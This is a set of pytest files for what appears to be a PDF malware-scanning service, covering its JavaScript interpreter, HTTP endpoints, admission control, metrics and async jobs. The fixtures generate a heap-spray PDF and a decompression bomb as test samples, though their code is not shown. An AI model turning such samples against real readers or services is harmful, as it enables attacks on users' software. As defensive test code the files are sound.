        }
        seen.join('')
        """
        assert evaluate(source) == "0134"

    def test_return_through_finally(self):
        source = """
        function f() {
            try { return 'try'; }
            finally { sideEffect = 1; }
        }
        var sideEffect = 0;
        f() + sideEffect
        """
        assert evaluate(source) == "try1"

    def test_nested_try_rethrow(self):
        source = """
        var log = [];
        try {
            try { throw 'inner'; }
            catch (e) { log.push('caught:' + e); throw 'outer'; }
        } catch (e2) { log.push('again:' + e2); }
        log.join(' ')
        """
        assert evaluate(source) == "caught:inner again:outer"

    def test_throw_in_finally_replaces(self):
        with pytest.raises(JSThrow) as excinfo:
            evaluate("try { throw 'a'; } finally { throw 'b'; }")
        assert excinfo.value.value == "b"

    def test_while_condition_side_effects(self):
        assert evaluate("var n = 0; while (n++ < 3) {} n") == 4.0

    def test_do_while_with_continue(self):
        source = """
        var i = 0, count = 0;
        do { i++; if (i % 2) continue; count++; } while (i < 6);
        count
        """
        assert evaluate(source) == 3.0

    def test_sequence_in_for_update(self):
        assert evaluate("var a = 0, b = 0; for (var i = 0; i < 3; i++, a++) { b++; } a + b") == 6.0


class TestFunctionsAdvanced:
    def test_recursive_function_expression_via_arguments(self):
        source = """
        var fact = function self(n) { return n <= 1 ? 1 : n * self(n - 1); };
        fact(5)
        """
        assert evaluate(source) == 120.0

    def test_method_extracted_loses_this(self):
        source = """
        var o = {v: 1, get: function(){ return typeof this.v; }};
        var f = o.get;
        f()
        """
        # this falls back to the global object, which has no .v
        assert evaluate(source) == "undefined"

    def test_constructor_returning_object_overrides(self):
        source = """
        function C() { this.a = 1; return {b: 2}; }
        var c = new C();
        typeof c.a + '/' + c.b
        """
        assert evaluate(source) == "undefined/2"

    def test_constructor_returning_primitive_ignored(self):
        source = "function C() { this.a = 1; return 42; } new C().a"
        assert evaluate(source) == 1.0

    def test_arguments_reflects_extras(self):
        assert evaluate("function f(a){ return arguments[2]; } f(1, 2, 'x')") == "x"

    def test_deep_recursion_raises_cleanly(self):
        with pytest.raises((JSRuntimeError, RecursionError, Exception)):
            evaluate("function f(){ return f(); } f()")


class TestStringEdge:
    def test_unescape_partial_sequences_literal(self):
        assert evaluate("unescape('%u12')") == "%u12"
        assert evaluate("unescape('%g1')") == "%g1"
        assert evaluate("unescape('100%')") == "100%"

    def test_split_join_identity(self):
        assert evaluate("'a-b-c'.split('-').join('-')") == "a-b-c"

    def test_surrogate_range_chars(self):
        assert evaluate("String.fromCharCode(0x9090).charCodeAt(0)") == 0x9090

    def test_string_comparison_is_code_unit_order(self):
        assert evaluate("'Z' < 'a'") is True

    def test_chained_concat_growth(self):
        assert evaluate("var s = 'ab'; s += s; s += s; s.length") == 8.0
