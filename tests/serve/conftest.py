"""Fixtures for the scan-service tests.

The corpus mirrors the batch property tests: a benign JS document, a
malicious spray document, and a malformed (limit-hit) document, all
deterministic under ``SEED``.  ``expected_verdicts`` scans each once
through a plain ``pipeline.scan`` so every service test asserts verdict
identity against the one-shot path.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from typing import Any, Dict, Optional, Tuple

import pytest

from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.pdf.builder import DocumentBuilder
from repro.serve import AdmissionConfig, ScanService, start_server
from tests.data import malformed

SEED = 77

#: A stream budget the decompression bomb blows but real docs never hit.
BOMB_LIMITS_SPEC = "stream-bytes=64kb"


def service_settings() -> PipelineSettings:
    return PipelineSettings(seed=SEED)


@pytest.fixture(scope="session")
def corpus_docs() -> Dict[str, bytes]:
    from tests.conftest import spray_js

    benign = DocumentBuilder()
    benign.add_page("benign js")
    benign.add_javascript("var x = 2 + 2; app.alert('x=' + x);")

    plain = DocumentBuilder()
    plain.add_page("no javascript at all")

    malicious = DocumentBuilder()
    malicious.add_page("")
    malicious.add_javascript(spray_js())

    return {
        "benign.pdf": benign.to_bytes(),
        "plain.pdf": plain.to_bytes(),
        "malicious.pdf": malicious.to_bytes(),
        "garbage.pdf": b"%PDF-1.4 truncated nonsense without objects",
        "bomb.pdf": malformed.decompression_bomb(1024 * 1024),
    }


@pytest.fixture(scope="session")
def expected_verdicts(corpus_docs) -> Dict[str, Tuple[bool, float, bool]]:
    """``name -> (malicious, malscore, errored)`` from one-shot scans."""
    pipeline = ProtectionPipeline(seed=SEED)
    out = {}
    for name, data in corpus_docs.items():
        if name == "bomb.pdf":
            continue  # scanned only under per-request limits
        report = pipeline.scan(data, name)
        out[name] = (
            report.verdict.malicious,
            report.verdict.malscore,
            report.errored,
        )
    return out


@pytest.fixture()
def service():
    """A started in-process service; drained at teardown."""
    svc = ScanService(
        settings=service_settings(),
        jobs=2,
        admission=AdmissionConfig(max_in_flight=2, deadline_seconds=30.0),
    ).start()
    yield svc
    svc.drain(timeout=30.0)


@pytest.fixture(scope="module")
def http_server():
    """A live HTTP server on an ephemeral port (module-scoped: boots
    once, every e2e test talks to the same daemon)."""
    svc = ScanService(
        settings=service_settings(),
        jobs=2,
        admission=AdmissionConfig(
            max_in_flight=2, max_queue_depth=16, deadline_seconds=30.0
        ),
    )
    handle = start_server(svc)
    yield handle
    handle.stop()


def http_post(
    url: str,
    data: bytes,
    timeout: float = 60.0,
) -> Tuple[int, Dict[str, Any], Dict[str, str]]:
    """POST raw bytes; returns (status, json payload, headers) without
    raising on 4xx/5xx."""
    request = urllib.request.Request(url, data=data, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:
            return response.status, json.load(response), dict(response.headers)
    except urllib.error.HTTPError as error:
        body = json.loads(error.read().decode("utf-8"))
        return error.code, body, dict(error.headers)


def http_get(
    url: str, timeout: float = 30.0
) -> Tuple[int, Dict[str, Any], Dict[str, str]]:
    try:
        with urllib.request.urlopen(url, timeout=timeout) as response:
            return response.status, json.load(response), dict(response.headers)
    except urllib.error.HTTPError as error:
        body = json.loads(error.read().decode("utf-8"))
        return error.code, body, dict(error.headers)


def assert_verdict_matches(
    payload: Dict[str, Any],
    expected: Tuple[bool, float, bool],
    name: Optional[str] = None,
) -> None:
    verdict = payload["verdict"]
    assert verdict["malicious"] == expected[0], name
    assert verdict["malscore"] == pytest.approx(expected[1]), name
    assert verdict["errored"] == expected[2], name
