"""End-to-end tests over a live HTTP server on an ephemeral port.

Satellite 1 of the serve PR: ``POST /scan`` verdicts must match
``pipeline.scan`` exactly for a benign, a malicious, and a malformed
(limit-hit) corpus document, and ``/healthz`` / ``/metrics`` must keep
responding while scans are in flight.
"""

import base64
import concurrent.futures as cf
import json
import time
import urllib.parse

import pytest

from repro.serve import AdmissionConfig, ScanService, start_server

from tests.serve.conftest import (
    BOMB_LIMITS_SPEC,
    assert_verdict_matches,
    http_get,
    http_post,
    service_settings,
)

pytestmark = pytest.mark.serve


def scan_url(server, name, **query):
    query["name"] = name
    return f"{server.url}/scan?{urllib.parse.urlencode(query)}"


class TestScanEndpoint:
    @pytest.mark.parametrize("name", ["benign.pdf", "malicious.pdf"])
    def test_verdict_matches_pipeline_scan(
        self, http_server, corpus_docs, expected_verdicts, name
    ):
        status, payload, _ = http_post(
            scan_url(http_server, name), corpus_docs[name]
        )
        assert status == 200
        assert_verdict_matches(payload, expected_verdicts[name], name)
        assert payload["name"] == name
        assert len(payload["sha256"]) == 64

    def test_malformed_limit_hit_document(self, http_server, corpus_docs):
        status, payload, _ = http_post(
            scan_url(http_server, "bomb.pdf", limits=BOMB_LIMITS_SPEC),
            corpus_docs["bomb.pdf"],
        )
        assert status == 200
        assert payload["verdict"]["errored"] is True
        assert payload["verdict"]["limit_kind"] == "stream-bytes"

    def test_repeat_scan_is_cache_hit(self, http_server, corpus_docs):
        url = scan_url(http_server, "plain.pdf")
        http_post(url, corpus_docs["plain.pdf"])
        status, payload, _ = http_post(url, corpus_docs["plain.pdf"])
        assert status == 200
        assert payload["cached"] is True

    def test_empty_body_is_400(self, http_server):
        status, payload, _ = http_post(scan_url(http_server, "empty.pdf"), b"")
        assert status == 400
        assert "error" in payload

    def test_bad_limits_spec_is_400(self, http_server, corpus_docs):
        status, _, _ = http_post(
            scan_url(http_server, "benign.pdf", limits="not-a-spec"),
            corpus_docs["benign.pdf"],
        )
        assert status == 400

    def test_unknown_route_is_404(self, http_server):
        status, _, _ = http_get(f"{http_server.url}/nope")
        assert status == 404


class TestHealthAndMetricsUnderLoad:
    def test_healthz_and_metrics_respond_during_scans(
        self, http_server, corpus_docs
    ):
        """Fire scans from worker threads and poll the control endpoints
        concurrently — both must answer while the data plane is busy."""
        docs = [
            ("benign.pdf", corpus_docs["benign.pdf"]),
            ("malicious.pdf", corpus_docs["malicious.pdf"]),
            ("plain.pdf", corpus_docs["plain.pdf"]),
        ] * 3
        with cf.ThreadPoolExecutor(max_workers=6) as pool:
            scans = [
                pool.submit(http_post, scan_url(http_server, name), data)
                for name, data in docs
            ]
            control = []
            while not all(f.done() for f in scans):
                control.append(http_get(f"{http_server.url}/healthz"))
                control.append(http_get(f"{http_server.url}/metrics"))
                time.sleep(0.01)
        assert control, "scans finished before any control-plane poll"
        for status, payload, _ in control:
            assert status == 200
            assert payload  # valid JSON body every time
        for future in scans:
            status, payload, _ = future.result()
            assert status == 200

    def test_metrics_expose_admission_and_cache(self, http_server, corpus_docs):
        http_post(scan_url(http_server, "benign.pdf"), corpus_docs["benign.pdf"])
        status, payload, _ = http_get(f"{http_server.url}/metrics")
        assert status == 200
        assert payload["admission"]["admitted"] >= 1
        assert "peak_queue_depth" in payload["admission"]
        assert "cache" in payload
        assert "jobs" in payload


class TestAsyncAndBatch:
    def test_async_job_flow(self, http_server, corpus_docs, expected_verdicts):
        status, payload, _ = http_post(
            scan_url(http_server, "benign.pdf", mode="async"),
            corpus_docs["benign.pdf"],
        )
        assert status == 202
        poll = f"{http_server.url}{payload['poll']}"
        deadline = time.monotonic() + 30.0
        while time.monotonic() < deadline:
            status, job, _ = http_get(poll)
            assert status == 200
            if job["state"] in ("done", "shed"):
                break
            time.sleep(0.02)
        assert job["state"] == "done"
        assert_verdict_matches(job["result"], expected_verdicts["benign.pdf"])

    def test_unknown_job_is_404(self, http_server):
        status, _, _ = http_get(f"{http_server.url}/jobs/ffffffffffffffff")
        assert status == 404

    def test_batch_endpoint(self, http_server, corpus_docs, expected_verdicts):
        body = json.dumps({
            "items": [
                {"name": name,
                 "data_b64": base64.b64encode(corpus_docs[name]).decode()}
                for name in ("benign.pdf", "malicious.pdf")
            ]
        }).encode()
        status, payload, _ = http_post(f"{http_server.url}/batch", body)
        assert status == 200
        assert payload["counts"]["ok"] == 2
        by_name = {entry["name"]: entry for entry in payload["items"]}
        for name in ("benign.pdf", "malicious.pdf"):
            assert_verdict_matches(by_name[name], expected_verdicts[name], name)

    def test_batch_rejects_malformed_json(self, http_server):
        status, _, _ = http_post(f"{http_server.url}/batch", b"{not json")
        assert status == 400

    def test_batch_rejects_missing_items(self, http_server):
        status, _, _ = http_post(f"{http_server.url}/batch", b'{"items": "x"}')
        assert status == 400


class TestBodyLimitAndDrain:
    def test_oversized_body_is_413(self, corpus_docs):
        service = ScanService(settings=service_settings(), jobs=1)
        handle = start_server(service, max_body_bytes=1024)
        try:
            status, payload, _ = http_post(
                f"{handle.url}/scan?name=big.pdf", b"x" * 4096
            )
            assert status == 413
        finally:
            handle.stop()

    def test_draining_server_sheds_and_reports_unhealthy(self, corpus_docs):
        service = ScanService(
            settings=service_settings(),
            jobs=1,
            admission=AdmissionConfig(max_in_flight=1, deadline_seconds=10.0),
        )
        handle = start_server(service)
        try:
            service.admission.start_drain()
            status, payload, _ = http_get(f"{handle.url}/healthz")
            assert status == 503
            assert payload["status"] == "draining"
            status, payload, headers = http_post(
                f"{handle.url}/scan?name=late.pdf", corpus_docs["benign.pdf"]
            )
            assert status == 503
            assert payload["reason"] == "draining"
            assert "Retry-After" in headers
        finally:
            handle.stop()
