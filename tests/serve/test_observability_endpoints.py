"""Prometheus exposition and slow-scan exemplars on the scan service.

The profiler PR's service surface: ``GET /metrics?format=prometheus``
must emit valid text exposition format 0.0.4 (validated by an actual
parser, including the ``_bucket``/``_sum``/``_count`` histogram
grammar) and ``GET /debug/slow`` must return the exemplars retained by
the service's :class:`~repro.obs.profile.SlowScanBuffer`.
"""

import urllib.request

import pytest

from repro.core.pipeline import PipelineSettings
from repro.obs import MemorySink, Observability
from repro.serve import AdmissionConfig, ScanService, start_server
from tests.obs.test_metrics import _parse_prometheus
from tests.serve.conftest import SEED, http_get, service_settings

pytestmark = pytest.mark.serve


def http_get_text(url, timeout=30.0):
    with urllib.request.urlopen(url, timeout=timeout) as response:
        return (
            response.status,
            response.read().decode("utf-8"),
            dict(response.headers),
        )


class TestPrometheusEndpoint:
    def test_exposition_parses_and_has_service_gauges(self, http_server):
        status, text, headers = http_get_text(
            f"{http_server.url}/metrics?format=prometheus"
        )
        assert status == 200
        assert headers["Content-Type"].startswith("text/plain")
        assert "version=0.0.4" in headers["Content-Type"]
        types, samples = _parse_prometheus(text)
        # Live admission gauges are present even with obs disabled.
        for gauge in (
            "repro_serve_admission_queue_depth",
            "repro_serve_admission_in_flight",
            "repro_serve_admission_draining",
            "repro_serve_uptime_seconds",
            "repro_serve_slow_scans_retained",
        ):
            assert types.get(gauge) == "gauge", gauge

    def test_histogram_grammar_after_scans(self, corpus_docs):
        """With obs enabled, request latency renders as a histogram."""
        service = ScanService(
            settings=service_settings(),
            jobs=1,
            cache=False,
            admission=AdmissionConfig(max_in_flight=1, deadline_seconds=30.0),
            obs=Observability(MemorySink()),
        )
        handle = start_server(service)
        try:
            from tests.serve.conftest import http_post

            for _ in range(2):
                status, _, _ = http_post(
                    f"{handle.url}/scan?name=benign.pdf",
                    corpus_docs["benign.pdf"],
                )
                assert status == 200
            status, text, _ = http_get_text(
                f"{handle.url}/metrics?format=prometheus"
            )
        finally:
            handle.stop()
        assert status == 200
        types, samples = _parse_prometheus(text)
        histograms = [n for n, kind in types.items() if kind == "histogram"]
        assert histograms, f"no histograms in exposition:\n{text}"
        name = histograms[0]
        sample_names = {n for n, _ in samples}
        assert f"{name}_bucket" in sample_names
        assert f"{name}_sum" in sample_names
        assert f"{name}_count" in sample_names
        # Cumulative bucket monotonicity, closed by +Inf.
        buckets = [
            line for n, line in samples if n == f"{name}_bucket"
        ]
        counts = [int(line.rsplit(" ", 1)[1]) for line in buckets]
        assert counts == sorted(counts)
        assert 'le="+Inf"' in buckets[-1]

    def test_json_metrics_unchanged_without_format(self, http_server):
        status, payload, headers = http_get(f"{http_server.url}/metrics")
        assert status == 200
        assert headers["Content-Type"] == "application/json"
        assert "admission" in payload


class TestDebugSlowEndpoint:
    def test_empty_buffer_over_http(self, http_server):
        status, payload, _ = http_get(f"{http_server.url}/debug/slow")
        assert status == 200
        assert payload["entries"] == []
        assert payload["capacity"] >= 1
        assert payload["observed"] >= 0

    def test_threshold_zero_retains_exemplars_with_detail(self, corpus_docs):
        """slow_threshold=0 retains every scan; profiled pipelines ship
        the phase breakdown and span tree in each exemplar."""
        service = ScanService(
            settings=PipelineSettings(seed=SEED, profile=True),
            jobs=1,
            cache=False,
            admission=AdmissionConfig(max_in_flight=1, deadline_seconds=30.0),
            slow_threshold=0.0,
        ).start()
        try:
            result = service.handle_scan(corpus_docs["benign.pdf"], "benign.pdf")
            assert result.status == 200
            snap = service.debug_slow()
        finally:
            service.drain(timeout=30.0)
        assert snap.status == 200
        (entry,) = snap.payload["entries"]
        assert entry["name"] == "benign.pdf"
        assert entry["seconds"] > 0.0
        assert entry["sha256"]
        assert entry["profile"]["total_seconds"] > 0.0
        assert "js-exec" in entry["profile"]["phases"]
        assert entry["spans"], "worker span tree missing from exemplar"
        span_names = {span["name"] for span in entry["spans"]}
        assert "pipeline.scan" in span_names

    def test_cached_results_are_not_exemplars(self, corpus_docs):
        service = ScanService(
            settings=service_settings(),
            jobs=1,
            admission=AdmissionConfig(max_in_flight=1, deadline_seconds=30.0),
            slow_threshold=0.0,
        ).start()
        try:
            service.handle_scan(corpus_docs["plain.pdf"], "plain.pdf")
            service.handle_scan(corpus_docs["plain.pdf"], "plain.pdf")
            snap = service.debug_slow()
        finally:
            service.drain(timeout=30.0)
        # Two requests, one actual scan: the cache hit adds no exemplar.
        assert len(snap.payload["entries"]) == 1
