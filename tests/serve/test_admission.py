"""Unit tests for the admission controller (no scanning, no sockets)."""

import threading
import time

import pytest

from repro.serve.admission import (
    SHED_DEADLINE,
    SHED_DRAINING,
    SHED_QUEUE_FULL,
    AdmissionConfig,
    AdmissionController,
    RequestShed,
)

pytestmark = pytest.mark.serve


def controller(**overrides):
    defaults = dict(max_queue_depth=2, max_in_flight=1, deadline_seconds=5.0)
    defaults.update(overrides)
    return AdmissionController(AdmissionConfig(**defaults))


class TestAdmit:
    def test_happy_path_lifecycle(self):
        ctl = controller()
        ticket = ctl.admit()
        assert ctl.queue_depth == 1
        ctl.acquire(ticket)
        assert ctl.queue_depth == 0
        assert ctl.in_flight == 1
        assert ticket.queue_wait >= 0.0
        ctl.release(ticket)
        assert ctl.in_flight == 0
        assert ctl.completed == 1

    def test_queue_full_sheds_with_429(self):
        ctl = controller(max_queue_depth=2)
        ctl.admit(), ctl.admit()
        with pytest.raises(RequestShed) as caught:
            ctl.admit()
        assert caught.value.reason == SHED_QUEUE_FULL
        assert caught.value.status == 429
        assert caught.value.retry_after > 0
        assert ctl.shed[SHED_QUEUE_FULL] == 1

    def test_draining_sheds_with_503(self):
        ctl = controller()
        ctl.start_drain()
        with pytest.raises(RequestShed) as caught:
            ctl.admit()
        assert caught.value.reason == SHED_DRAINING
        assert caught.value.status == 503

    def test_deadline_carried_on_ticket(self):
        ctl = controller(deadline_seconds=5.0)
        ticket = ctl.admit()
        assert ticket.deadline_at is not None
        assert 0.0 < ticket.remaining(time.monotonic()) <= 5.0
        ctl.release(ticket)

    def test_no_deadline_config(self):
        ctl = controller(deadline_seconds=None)
        ticket = ctl.admit()
        assert ticket.deadline_at is None
        assert ticket.remaining(time.monotonic()) is None
        ctl.release(ticket)


class TestAcquire:
    def test_queued_past_deadline_is_shed(self):
        ctl = controller(max_in_flight=1, deadline_seconds=0.05)
        holder = ctl.admit()
        ctl.acquire(holder)
        queued = ctl.admit()
        with pytest.raises(RequestShed) as caught:
            ctl.acquire(queued)
        assert caught.value.reason == SHED_DEADLINE
        assert caught.value.status == 503
        assert ctl.queue_depth == 0  # the shed request left the queue
        ctl.release(holder)
        ctl.release(queued)  # releasing a shed ticket is a no-op
        assert ctl.in_flight == 0
        assert ctl.completed == 1

    def test_blocked_acquire_proceeds_on_release(self):
        ctl = controller(max_in_flight=1, deadline_seconds=10.0)
        holder = ctl.admit()
        ctl.acquire(holder)
        queued = ctl.admit()
        acquired = threading.Event()

        def wait_for_slot():
            ctl.acquire(queued)
            acquired.set()

        thread = threading.Thread(target=wait_for_slot)
        thread.start()
        assert not acquired.wait(0.05)
        ctl.release(holder)
        assert acquired.wait(5.0)
        ctl.release(queued)
        thread.join()
        assert ctl.completed == 2

    def test_release_of_unacquired_ticket_frees_queue_slot(self):
        ctl = controller(max_queue_depth=1)
        ticket = ctl.admit()
        ctl.release(ticket)
        assert ctl.queue_depth == 0
        ctl.admit()  # slot is usable again


class TestDrainAndStats:
    def test_wait_idle_returns_immediately_when_idle(self):
        assert controller().wait_idle(timeout=0.1) is True

    def test_wait_idle_times_out_with_work_in_flight(self):
        ctl = controller()
        ticket = ctl.admit()
        ctl.acquire(ticket)
        assert ctl.wait_idle(timeout=0.05) is False
        ctl.release(ticket)
        assert ctl.wait_idle(timeout=1.0) is True

    def test_snapshot_counters_and_peaks(self):
        ctl = controller(max_queue_depth=4, max_in_flight=2)
        tickets = [ctl.admit() for _ in range(3)]
        ctl.acquire(tickets[0])
        ctl.acquire(tickets[1])
        snap = ctl.snapshot()
        assert snap["queue_depth"] == 1
        assert snap["in_flight"] == 2
        assert snap["peak_queue_depth"] == 3
        assert snap["peak_in_flight"] == 2
        assert snap["admitted"] == 3
        assert snap["draining"] is False
        for ticket in tickets:
            ctl.release(ticket)
        assert ctl.snapshot()["completed"] == 2  # third never acquired

    def test_config_validation(self):
        with pytest.raises(ValueError):
            AdmissionConfig(max_queue_depth=-1)
        with pytest.raises(ValueError):
            AdmissionConfig(max_in_flight=0)
        with pytest.raises(ValueError):
            AdmissionConfig(deadline_seconds=0)
