"""In-process service semantics: verdict identity, caching, limits,
shedding and drain — no sockets involved."""

import threading
import time

import pytest

from repro.batch import BatchScanner
from repro.limits import ScanLimits
from repro.serve import AdmissionConfig, ScanService
from repro.serve.jobs import JOB_DONE

from tests.serve.conftest import (
    BOMB_LIMITS_SPEC,
    assert_verdict_matches,
    service_settings,
)

pytestmark = pytest.mark.serve


class TestScanPath:
    @pytest.mark.parametrize("name", ["benign.pdf", "plain.pdf", "malicious.pdf"])
    def test_verdict_matches_pipeline_scan(
        self, service, corpus_docs, expected_verdicts, name
    ):
        result = service.handle_scan(corpus_docs[name], name)
        assert result.status == 200
        assert_verdict_matches(result.payload, expected_verdicts[name], name)
        assert result.payload["cached"] is False
        assert result.payload["report"] is not None

    def test_malformed_document_yields_structured_errored_report(
        self, service, corpus_docs, expected_verdicts
    ):
        result = service.handle_scan(corpus_docs["garbage.pdf"], "garbage.pdf")
        assert result.status == 200  # the *scan* succeeded; the doc errored
        assert result.payload["verdict"]["errored"] is True
        assert_verdict_matches(
            result.payload, expected_verdicts["garbage.pdf"], "garbage.pdf"
        )

    def test_second_request_is_cache_hit_with_same_verdict(
        self, service, corpus_docs
    ):
        first = service.handle_scan(corpus_docs["benign.pdf"], "benign.pdf")
        second = service.handle_scan(corpus_docs["benign.pdf"], "benign.pdf")
        assert first.payload["cached"] is False
        assert second.payload["cached"] is True
        assert second.payload["verdict"] == first.payload["verdict"]

    def test_limit_hit_document_reports_blown_budget(self, service, corpus_docs):
        result = service.handle_scan(
            corpus_docs["bomb.pdf"], "bomb.pdf", limits_spec=BOMB_LIMITS_SPEC
        )
        assert result.status == 200
        verdict = result.payload["verdict"]
        assert verdict["errored"] is True
        assert verdict["limit_kind"] == "stream-bytes"

    def test_limit_hit_matches_one_shot_pipeline(self, service, corpus_docs):
        """Per-request limits must behave exactly like a one-shot scan
        run under the same ``ScanLimits``."""
        from repro import limits as limits_mod

        limits = ScanLimits.parse(BOMB_LIMITS_SPEC)
        with limits_mod.activate(limits):
            one_shot = service_settings().build().scan(
                corpus_docs["bomb.pdf"], "bomb.pdf"
            )
        result = service.handle_scan(
            corpus_docs["bomb.pdf"], "bomb.pdf", limits_spec=BOMB_LIMITS_SPEC
        )
        assert result.payload["verdict"]["limit_kind"] == one_shot.limit_kind
        assert result.payload["verdict"]["errored"] == one_shot.errored

    def test_custom_limits_bypass_the_cache(self, service, corpus_docs):
        service.handle_scan(corpus_docs["benign.pdf"], "benign.pdf")
        relaxed = service.handle_scan(
            corpus_docs["benign.pdf"], "benign.pdf",
            limits_spec="deadline=25",
        )
        assert relaxed.payload["cached"] is False

    def test_nocache_forces_fresh_scan_with_full_report(self, service, corpus_docs):
        """Cache hits answer ``"report": null``; ``use_cache=False`` is
        the documented opt-out for clients that need the OpenReport."""
        first = service.handle_scan(corpus_docs["benign.pdf"], "benign.pdf")
        fresh = service.handle_scan(
            corpus_docs["benign.pdf"], "benign.pdf", use_cache=False
        )
        assert fresh.payload["cached"] is False
        assert fresh.payload["report"] is not None
        assert fresh.payload["verdict"] == first.payload["verdict"]

    def test_empty_body_is_rejected(self, service):
        result = service.handle_scan(b"", "empty.pdf")
        assert result.status == 400

    def test_bad_limits_spec_is_rejected(self, service, corpus_docs):
        result = service.handle_scan(
            corpus_docs["benign.pdf"], "benign.pdf", limits_spec="bogus"
        )
        assert result.status == 400
        assert "limits" in result.payload["error"]


class TestBatchPath:
    def test_multi_status_batch(self, service, corpus_docs, expected_verdicts):
        items = [(name, corpus_docs[name])
                 for name in ("benign.pdf", "plain.pdf", "garbage.pdf")]
        result = service.handle_batch(items)
        assert result.status == 200
        assert result.payload["total"] == 3
        assert result.payload["counts"]["ok"] == 3
        by_name = {entry["name"]: entry for entry in result.payload["items"]}
        for name, _ in items:
            assert_verdict_matches(by_name[name], expected_verdicts[name], name)


class TestAsyncPath:
    def test_job_runs_to_done_with_matching_verdict(
        self, service, corpus_docs, expected_verdicts
    ):
        accepted = service.handle_async_submit(
            corpus_docs["benign.pdf"], "benign.pdf"
        )
        assert accepted.status == 202
        job_id = accepted.payload["job"]
        deadline = time.monotonic() + 30.0
        while time.monotonic() < deadline:
            status = service.handle_job_status(job_id)
            if status.payload["state"] in ("done", "shed"):
                break
            time.sleep(0.02)
        assert status.payload["state"] == JOB_DONE
        assert status.payload["status"] == 200
        assert_verdict_matches(
            status.payload["result"], expected_verdicts["benign.pdf"]
        )

    def test_unknown_job_is_404(self, service):
        assert service.handle_job_status("deadbeef").status == 404

    def test_async_firehose_is_shed_with_429_at_submission(self):
        """Submissions beyond ``max_pending_async`` must be refused
        before their bodies are parked on the job pool's queue — the
        unbounded-202 regression."""
        release = threading.Event()

        class BlockingPipeline:
            def scan(self, data, name):
                release.wait(30.0)
                raise RuntimeError("released")

        scanner = BatchScanner(
            jobs=1, settings=service_settings(),
            pipeline_factory=BlockingPipeline, cache=False,
        )
        service = ScanService(
            scanner=scanner,
            admission=AdmissionConfig(max_in_flight=1, deadline_seconds=30.0),
            max_pending_async=2,
        ).start()
        try:
            results = [
                service.handle_async_submit(b"%PDF-1.4 x", f"{i}.pdf")
                for i in range(5)
            ]
            accepted = [r for r in results if r.status == 202]
            shed = [r for r in results if r.status == 429]
            assert len(accepted) == 2
            assert len(shed) == 3
            for result in shed:
                assert result.payload["reason"] == "async-backlog"
                assert result.retry_after is not None
            assert service.jobs.pending_count() == 2
            assert service.metrics().payload["admission"]["shed"][
                "async-backlog"
            ] == 3
        finally:
            release.set()
            service.drain(timeout=10.0)


class TestOverloadAndDrain:
    def test_draining_service_sheds_with_503(self, corpus_docs):
        service = ScanService(settings=service_settings(), jobs=1).start()
        service.admission.start_drain()
        result = service.handle_scan(corpus_docs["benign.pdf"], "benign.pdf")
        assert result.status == 503
        assert result.payload["reason"] == "draining"
        assert result.retry_after is not None
        assert service.health().status == 503
        assert service.drain(timeout=10.0) is True

    def test_queue_full_sheds_with_429(self, corpus_docs):
        service = ScanService(
            settings=service_settings(),
            jobs=1,
            admission=AdmissionConfig(
                max_queue_depth=1, max_in_flight=1, deadline_seconds=10.0
            ),
        ).start()
        try:
            # Occupy the in-flight slot and the single queue slot directly
            # via admission, so the next request cannot even queue.
            holder = service.admission.admit()
            service.admission.acquire(holder)
            waiter = service.admission.admit()
            try:
                result = service.handle_scan(
                    corpus_docs["benign.pdf"], "benign.pdf"
                )
            finally:
                service.admission.release(waiter)
                service.admission.release(holder)
            assert result.status == 429
            assert result.payload["reason"] == "queue-full"
            assert result.retry_after is not None
        finally:
            service.drain(timeout=10.0)

    def test_hung_worker_is_abandoned_not_waited_forever(self):
        """A worker that ignores its budget (stub pipeline sleeping past
        the deadline) gets a 503 after deadline + grace, not a hang —
        and the squatted pool slot is visible to operators until the
        worker finally returns it."""
        class SleepyPipeline:
            def scan(self, data, name):
                time.sleep(0.8)
                raise AssertionError("result is discarded anyway")

        scanner = BatchScanner(
            jobs=1, settings=service_settings(),
            pipeline_factory=SleepyPipeline, cache=False,
        )
        service = ScanService(
            scanner=scanner,
            admission=AdmissionConfig(
                max_in_flight=1, deadline_seconds=0.15
            ),
            hang_grace=0.1,
        ).start()
        try:
            start = time.monotonic()
            result = service.handle_scan(b"%PDF-1.4 whatever", "hung.pdf")
            elapsed = time.monotonic() - start
            assert result.status == 503
            assert "abandoned" in result.payload["error"]
            assert result.retry_after is not None
            assert elapsed < 5.0
            # The hung worker still occupies its slot: surfaced in
            # /healthz so max_in_flight vs. reality is not invisible.
            assert service.abandoned_workers == 1
            assert service.health().payload["abandoned_workers"] == 1
            deadline = time.monotonic() + 5.0
            while service.abandoned_workers:  # worker finishes its sleep
                assert time.monotonic() < deadline, "slot never returned"
                time.sleep(0.02)
            assert service.health().payload["abandoned_workers"] == 0
        finally:
            service.drain(timeout=5.0)

    def test_drain_is_terminal_and_does_not_restart_pools(self, corpus_docs):
        """The drain-resurrection regression: requests arriving after
        drain() must get 503, not silently rebuild the executors."""
        service = ScanService(settings=service_settings(), jobs=1).start()
        assert service.drain(timeout=10.0) is True
        sync = service.handle_scan(corpus_docs["benign.pdf"], "late.pdf")
        assert sync.status == 503
        batch = service.handle_batch([("late.pdf", corpus_docs["benign.pdf"])])
        assert batch.status == 503
        assert batch.retry_after is not None
        job = service.handle_async_submit(corpus_docs["benign.pdf"], "late.pdf")
        assert job.status == 503
        assert service._async_pool is None  # pools stayed down
        assert not service.scanner.started
        with pytest.raises(RuntimeError):
            service.start()

    def test_health_reports_serving_state(self, service):
        health = service.health()
        assert health.status == 200
        assert health.payload["status"] == "ok"
        assert health.payload["workers"] == service.scanner.jobs

    def test_metrics_payload_shape(self, service, corpus_docs):
        service.handle_scan(corpus_docs["plain.pdf"], "plain.pdf")
        metrics = service.metrics()
        assert metrics.status == 200
        assert metrics.payload["admission"]["admitted"] >= 1
        assert "jobs" in metrics.payload
        assert "cache" in metrics.payload
