"""Unit tests for the async job registry."""

import pytest

from repro.serve.jobs import (
    JOB_DONE,
    JOB_QUEUED,
    JOB_RUNNING,
    JOB_SHED,
    JobRegistry,
)

pytestmark = pytest.mark.serve


class TestLifecycle:
    def test_create_run_finish(self):
        registry = JobRegistry()
        job = registry.create("a.pdf")
        assert job.state == JOB_QUEUED
        assert not job.terminal
        registry.mark_running(job.id)
        assert registry.get(job.id).state == JOB_RUNNING
        registry.finish(job.id, JOB_DONE, 200, {"verdict": {"malicious": False}})
        done = registry.get(job.id)
        assert done.terminal
        assert done.status == 200
        assert done.finished_at is not None
